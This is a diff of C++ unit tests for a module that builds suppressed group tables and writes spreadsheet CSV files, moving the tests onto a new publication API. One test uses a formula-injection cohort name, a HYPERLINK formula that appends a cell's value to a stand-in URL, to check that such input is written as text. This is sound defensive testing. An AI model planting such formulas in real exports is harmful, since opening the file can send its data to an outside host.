@@ -3,6 +3,7 @@
 #include "core/csv/CsvWriter.h"
 #include "core/disclosure/GroupCsv.h"
 #include "core/disclosure/GroupTable.h"
+#include "core/disclosure/Publication.h"
 
 #include <catch2/catch.hpp>
 
@@ -47,9 +48,10 @@ TEST_CASE("group csv: a cohort named as a formula is text, the selection and pro
 {
     const std::string cohort = "=HYPERLINK(\"http://x\"&A1,\"klik\")";
     km::IndicatorSet set;
+    set.cases = 44;
     set.proportions.push_back(km::Proportion::make("regie.casusregie", 2, 44, 0));
     set.proportions.push_back(km::Proportion::make("regie.afstemming", 10, 20, 0));
-    const std::vector<km::GroupTable> tables = km::GroupTable::build(set, km::SmallCellPolicy{5});
+    const std::vector<km::GroupTable> tables = km::Publication::of({set}, km::SmallCellPolicy{5}).selections[0].tables;
     const std::string csv = km::GroupCsv::write({{cohort, &tables[0]}}, "cohort " + cohort, "afgeschermd (onder 5)",
                                                 km::Language::Dutch,
                                                 CsvDialect::spreadsheet(km::CsvConvention::SemicolonDecimalComma));
@@ -66,10 +68,10 @@ TEST_CASE("group csv: a cohort named as a formula is text, the selection and pro
 
 TEST_CASE("group table: indicators of a group the labels do not know are kept, after the known ones", "[disclosure]")
 {
-    km::IndicatorSet set;
-    set.proportions.push_back(km::Proportion::make("nieuwgroep.x", 10, 20, 0));
-    set.proportions.push_back(km::Proportion::make("regie.casusregie", 10, 20, 0));
-    const std::vector<km::GroupTable> tables = km::GroupTable::build(set, km::SmallCellPolicy{5});
+    const std::vector<km::GroupTable> tables =
+        km::GroupTable::build({km::PublishedProportion::unprotected(km::Proportion::make("nieuwgroep.x", 10, 20, 0)),
+                               km::PublishedProportion::unprotected(km::Proportion::make("regie.casusregie", 10, 20, 0))},
+                              {});
     REQUIRE(tables.size() == 2);
     CHECK(tables[0].group == "regie");
     CHECK(tables[1].group == "nieuwgroep");
